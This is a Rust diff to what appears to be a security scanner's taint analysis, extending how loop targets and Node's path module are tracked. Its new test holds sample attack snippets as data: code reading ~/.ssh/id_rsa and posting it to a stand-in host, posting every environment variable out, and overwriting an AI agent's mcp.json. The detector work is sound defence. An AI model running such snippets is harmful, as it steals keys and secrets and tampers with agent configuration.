@@ -635,24 +635,57 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
         if matches!(ident(t.get(j)), Some("const" | "let" | "var")) {
             j += 1;
         }
-        let Some(name) = ident(t.get(j)).map(str::to_string) else {
-            return j;
-        };
-        let mut k = j + 1;
-        while k < t.len() && !matches!(ident(t.get(k)), Some("in" | "of")) && k < j + 6 {
+        let mut k = j;
+        while k < t.len() && !matches!(ident(t.get(k)), Some("in" | "of")) && k < j + 16 {
             k += 1;
         }
         if !matches!(ident(t.get(k)), Some("in" | "of")) {
             return j;
         }
+        // The loop's targets: `x`, `a, b`, `(a, b)`, `[a, b]`, `{a, b}`.
+        let targets: Vec<String> = t[j..k]
+            .iter()
+            .filter_map(|token| match &token.tok {
+                Tok::Ident(word) => Some(word.to_string()),
+                _ => None,
+            })
+            .collect();
+        let Some(name) = targets.first().cloned() else {
+            return j;
+        };
         let (iterable, next) = self.expr(t, k + 1, 0);
         if iterable.name.as_deref().is_some_and(is_whole_environment) {
             let span = self.span(t, k + 1, next);
             let origin = self
                 .a
                 .emit("secret-read/env-dump", span, "every environment variable".into(), None);
-            self.env
-                .insert(name, Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin)));
+            // `for k, v in os.environ.items()`: every target is the environment.
+            for target in &targets {
+                self.env.insert(
+                    target.clone(),
+                    Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin)),
+                );
+            }
+            return next;
+        }
+        if targets.len() > 1 {
+            // Each target is its column of the rows: `for (const [file, key] of targets)`.
+            let rows = iterable.list.clone().unwrap_or_default();
+            for (column, target) in targets.into_iter().enumerate() {
+                let items: Vec<Val> = rows
+                    .iter()
+                    .filter_map(|row| row.list.as_ref().and_then(|l| l.get(column)).cloned())
+                    .collect();
+                let mut v = items.first().cloned().unwrap_or_else(|| Val::unknown(target.clone()));
+                v.taint = v.taint.union(iterable.taint);
+                for other in &items {
+                    v.taint = v.taint.union(other.taint);
+                }
+                if items.len() > 1 {
+                    v.list = Some(items);
+                }
+                self.env.insert(target, v);
+            }
             return next;
         }
         let mut element = iterable
@@ -2991,7 +3024,8 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 v.name = None;
                 return v;
             }
-            if module == "path" {
+            // A path value's method; Node's `path` module (`path.join`) is a module.
+            if module == "path" && !(self.lang == Lang::JavaScript && receiver.text == "path") {
                 return self.path_method(receiver, &lower, &args, span);
             }
             if module == "socket-object" {
@@ -3892,6 +3926,16 @@ mod tests {
             Lang::PowerShell,
             "secret-read/env-dump"
         ));
+    }
+
+    #[test]
+    fn node_path_joins_and_destructured_loop_targets_are_followed() {
+        let js = "const path = require('path');\nconst os = require('os');\nconst fs = require('fs');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nfetch('https://x.example/u', {method: 'POST', body: k});\n";
+        assert!(has(js, Lang::JavaScript, "flow/secret-egress"));
+        let js = "const targets = [['a.json', 1], [require('path').join(require('os').homedir(), '.cursor', 'mcp.json'), 2]];\nfor (const [file, n] of targets) {\n  require('fs').writeFileSync(file, '{}');\n}\n";
+        assert!(has(js, Lang::JavaScript, "agent-config/settings"));
+        let py = "import os\nfor k, v in os.environ.items():\n    requests.post('https://x.example/e', data=v)\n";
+        assert!(has(py, Lang::Python, "flow/secret-egress"));
     }
 
     #[test]
